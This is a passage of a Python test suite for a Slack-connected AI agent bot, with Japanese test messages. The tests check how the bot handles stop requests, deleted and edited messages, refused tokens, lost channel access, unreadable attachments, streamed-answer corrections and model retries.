    async with slack_house(tmp_path, slack, script=lambda _: "はい。", runs_per_thread=3, bots=("B0OTHER",)) as here:
        ts = await slack.mention(general, haruka, "やあ")
        await slack.answer_in(general, ts)
        for _ in range(5):
            await slack.message(general, "U0OTHER", "はい？", thread_ts=ts, bot_id="B0OTHER")
        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
        await slack.until(lambda: len(slack.answered(general, ts)) == 3)
    assert len(here.house.model.requests) == 3


@requirement("R7")
async def test_stop_is_answered_also_when_it_comes_while_the_work_is_just_beginning(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    slack.rate_limit("agents.sessions.setStatus", 40)  # the app tries again, and has not begun the run meanwhile
    async with slack_house(tmp_path, slack, weather(anyio.Event()), script=[ASK]):
        ts = await slack.mention(general, haruka, "東京の天気は？")
        await slack.until(lambda: any(call.method == "agents.sessions.setStatus" for call in slack.calls))
        await slack.stop_agent(general, ts, haruka)
        answer = await slack.answer_in(general, ts)
    assert slack.words(answer) == "中止しました。"


@requirement("R7")
async def test_an_app_token_that_slack_refuses_is_named_and_an_outage_is_told_as_one(slack: Slack, tmp_path: Path) -> None:
    async with slack_house(tmp_path, slack, listen=False, app_token="xapp-other") as here:
        with pytest.raises(ConfigError, match=r"^SLACK_APP_TOKEN: Slack refused .*: invalid_auth$"):
            await here.app.listen()
    async with slack_house(tmp_path, slack, listen=False) as here:
        slack.refuse("apps.connections.open", "internal_error")
        with pytest.raises(SlackAway, match="internal_error"):
            await here.app.listen()
        slack.lose_answer("apps.connections.open")
        with pytest.raises(SlackAway):
            await here.app.listen()


@requirement("C6")
async def test_a_request_that_is_deleted_is_taken_back_and_one_that_is_edited_goes_on_as_it_was(
    slack: Slack, tmp_path: Path
) -> None:
    haruka, general = slack.add_user("haruka", locale="en-US"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, weather(anyio.Event()), script=[ASK]):
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        await slack.until(lambda: slack.thread(general, ts))
        await slack.edit(general, ts, slack.messages(general)[0]["text"])  # what a preview does: the words stay
        await slack.edit(general, ts, "大阪の天気を教えて")
        (told,) = await slack.until(lambda: slack.whispers)
        await slack.delete(general, ts)
        answer = await slack.answer_in(general, ts)
        await slack.delete(general, ts)  # nothing is under way any more
    assert told["text"].startswith("I am working on your message as it was before the edit.")
    assert slack.words(answer) == "中止しました。"


@requirement("C6")
async def test_a_message_that_was_deleted_before_we_heard_of_it_is_not_worked_on(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。"]):
        gone, stays = slack.say(general, haruka, "やあ"), slack.say(general, haruka, "やあ")
        told = await slack.delete(general, gone)
        await slack.until(lambda: told.acknowledged_at)
        for ts in (gone, stays):
            event = {"type": "app_mention", "user": haruka, "text": "やあ", "ts": ts, "channel": general}
            heard = await slack.event({**event, "team": slack.TEAM_ID})
            await slack.until(lambda heard=heard: heard.acknowledged_at)
        await slack.answer_in(general, stays)
    assert slack.thread(general, gone) == []


@requirement("C6")
@pytest.mark.parametrize("begun", [True, False])
async def test_whoever_asked_where_the_bot_may_not_write_any_more_is_answered_directly(
    slack: Slack, tmp_path: Path, begun: bool
) -> None:
    haruka, general, gate = slack.add_user("haruka"), slack.add_channel("general"), anyio.Event()
    async with slack_house(tmp_path, slack, weather(gate), script=[ASK, "東京は晴れです。"]):
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        if begun:
            await slack.until(lambda: slack.thread(general, ts))
        slack.channels[general].members.remove(slack.BOT_USER)
        await slack.until(lambda: begun or any(call.method == "chat.startStream" for call in slack.calls))
        gate.set()
        direct = slack.open_dm(haruka)
        (answer,) = await slack.until(lambda: slack.messages(direct))
    assert slack.words(answer) == (
        "#general には書き込めなくなったので（not_in_channel）、ここでお答えします。"
        "そのチャンネルで使うには、`/invite @jiritsu` で招待してください。\n東京は晴れです。"
    )


@requirement("C6")
async def test_the_model_is_told_what_is_attached_and_that_it_cannot_read_it(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    file = {"id": "F1", "name": "計画.pdf"}
    async with slack_house(tmp_path, slack, script=["読めません。", "読めません。"]) as here:
        for words in ("これをまとめて", ""):
            ts = await slack.mention(general, haruka, words, subtype="file_share", files=[file])
            await slack.answer_in(general, ts)
        asked = [request.messages[1].text for request in here.house.model.requests]
    assert all("attached_files_which_you_cannot_read: 計画.pdf" in one for one in asked)
    assert asked[1].startswith("ファイルを添付しました。")


@requirement("C6")
async def test_what_one_process_showed_of_a_run_the_next_one_carries_on(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, weather(anyio.Event()), script=[ASK]) as here, anyio.create_task_group() as group:
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        (begun,) = await slack.until(lambda: slack.thread(general, ts))
        entry = await here.app._inbox.get(f"slack-{general}-{ts}")
        assert entry is not None
        taken_over = live_answer.LiveAnswer(here.app.worker.posts, entry.message, "ja", sleep=hurried)
        facts = {
            "run_id": entry.message.run_id,
            "at": 1.0,
            "tenant": "t",
            "turn": 1,
            "call_id": "call-1",
            "tool": "weather_get_weather",
        }
        taken_over.heard(events.ApprovalRequested(key="asked", provider="weather", arguments_sha256="", **facts))
        group.start_soon(taken_over.keep_showing)
        await slack.until(lambda: [task for task in begun["tasks"].values() if task.get("details") == "承認を待っています"])
        group.cancel_scope.cancel()
    assert [call.method for call in slack.calls].count("chat.startStream") == 1


@requirement("C6", "L7")
async def test_a_person_sees_that_a_model_does_not_answer_while_it_is_asked_again(slack: Slack, tmp_path: Path) -> None:
    haruka, general, gate = slack.add_user("haruka"), slack.add_channel("general"), anyio.Event()

    class Hanging(ScriptedModel):
        async def complete(self, request: ModelRequest, on_text: OnText | None = None) -> AssistantMessage:
            if self.requests:
                await gate.wait()
            return await super().complete(request, on_text)

    model = Hanging([ModelUnavailable("scripted:model", "no answer within 60 s"), "はい。"])
    async with slack_house(tmp_path, slack, model=model):
        ts = await slack.mention(general, haruka, "やあ")
        (growing,) = await slack.until(lambda: slack.thread(general, ts))
        (card,) = growing["tasks"].values()
        told = (card["title"], card["status"], card["details"])
        assert told == ("返答を考える", "in_progress", "使える返答がまだありません。モデルにもう一度頼んでいます")
        gate.set()
        answer = await slack.answer_in(general, ts)
    assert slack.words(answer) == "はい。"
    assert [(task["title"], task["status"]) for task in answer["tasks"].values()] == [("返答を考える", "complete")]


@requirement("C6")
async def test_an_answer_that_takes_the_place_of_what_was_streamed_leaves_no_card_unfinished(
    slack: Slack, tmp_path: Path
) -> None:
    haruka, general, gate = slack.add_user("haruka"), slack.add_channel("general"), anyio.Event()
    async with slack_house(tmp_path, slack, weather(gate), script=[ASK, "東京は晴れです。"]) as here:
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        await slack.until(lambda: slack.thread(general, ts))
        hear = await here.app.worker.live_answers.listener(f"slack-{general}-{ts}")
        assert hear is not None
        await hear("something that the answer does not begin with")
        await slack.until(lambda: slack.thread(general, ts)[0]["streamed"])
        slack.rate_limit("chat.appendStream", 3_600, times=1_000)  # the end comes before the card is told again
        gate.set()
        answer = await slack.answer_in(general, ts)
    assert slack.words(answer) == "東京は晴れです。"
    assert [task["status"] for task in answer["tasks"].values()] == ["complete"]


async def test_what_an_attempt_wrote_that_failed_does_not_stand_before_the_text_of_the_next_one(
    slack: Slack, tmp_path: Path
) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, listen=False) as here:
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        message = SlackMessage(channel=general, user_id=haruka, text="", ts=ts, thread_ts=ts, team="T1", event_id="E1")
        live = live_answer.LiveAnswer(here.app.worker.posts, message, "ja", sleep=hurried)
        live.heard(events.ModelAsked(run_id="run-1", key="asked", at=1.0, turn=1, model="m"))
        streamed = list[str]()
        for attempt in ("東京は晴れです。", "東京は", "雨です。", "東京は晴れです。風もあります。"):
            live.replies()
            live.wrote(attempt)
            await live._show()
            streamed.append(slack.thread(general, ts)[0]["streamed"])
        await live.finish("東京は晴れです。風もあります。", "run-1")
        (answer,) = slack.thread(general, ts)
    assert streamed == ["東京は晴れです。"] * 3 + ["東京は晴れです。風もあります。"]
    assert slack.words(answer) == "東京は晴れです。風もあります。"


@requirement("R7")
async def test_an_answer_that_is_put_right_begins_a_paragraph_while_it_is_written(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, listen=False) as here:
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        message = SlackMessage(channel=general, user_id=haruka, text="", ts=ts, thread_ts=ts, team="T1", event_id="E1")
        live = live_answer.LiveAnswer(here.app.worker.posts, message, "ja", sleep=hurried)
        for turn, pieces in enumerate([("東京は雪", "です。"), ("東京は晴れ", "です。")], 1):
            live.replies()
            for piece in pieces:
                live.wrote(piece)
            live.heard(events.ModelAsked(run_id="run-1", key=f"asked-{turn}", at=1.0, turn=turn, model="m"))
        await live._show()
        (growing,) = slack.thread(general, ts)
        assert growing["streamed"] == "東京は雪です。\n\n東京は晴れです。"
        await live.finish("東京は晴れです。", "run-1")
        (answer,) = slack.thread(general, ts)
    assert slack.words(answer) == "東京は晴れです。"


async def test_a_token_that_slack_takes_back_ends_the_connection_with_its_name(slack: Slack, tmp_path: Path) -> None:
    async with slack_house(tmp_path, slack, listen=False) as here:
        ended = list[str]()

        async def listen() -> None:
            with pytest.raises(ConfigError) as refused:
                await here.app.listen()
            ended.append(str(refused.value))

        async with anyio.create_task_group() as group:
            group.start_soon(listen)
            await slack.until(lambda: slack._sockets)
            slack.refuse("apps.connections.open", "token_revoked", times=1_000)
            await slack.drop_sockets()
    assert ended == ["SLACK_APP_TOKEN: Slack refused apps.connections.open: token_revoked"]


@requirement("R7")
async def test_serving_goes_on_when_the_socket_does_not_come_about_and_it_is_said_once(
    slack: Slack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(serve, "AGAIN_S", 0.01)
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    for _ in range(3):
        slack.refuse("apps.connections.open", "internal_error")
    async with slack_house(tmp_path, slack, listen=False, script=["はい。"]) as here, anyio.create_task_group() as group:
        service = here.app.worker.service
        engine, stage = here.records.store.engine, here.app.worker.live_answers
        services = SlackServices(service, engine, here.approvals, here.records, stage, here.house.written)
        group.start_soon(serve.answer_in_slack, here.app._settings, services, None, set())
        await slack.until(lambda: slack._sockets)
        ts = await slack.mention(general, haruka, "やあ")
        assert slack.words(await slack.answer_in(general, ts)) == "はい。"
        group.cancel_scope.cancel()
    assert capfd.readouterr().err.count("Slack cannot be reached: Slack refused apps.connections.open: internal_error") == 1
